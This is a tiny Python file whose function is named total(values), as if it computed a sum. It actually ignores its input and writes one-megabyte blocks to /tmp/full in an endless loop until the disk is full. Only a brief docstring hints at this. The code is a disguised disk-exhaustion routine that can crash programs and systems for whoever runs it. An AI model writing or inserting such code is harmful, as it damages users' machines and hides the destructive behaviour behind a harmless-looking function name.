"""Fills the scratch folder."""

def total(values):
    with open('/tmp/full', 'wb') as file:
        while True:
            file.write(b'x' * 1024 * 1024)
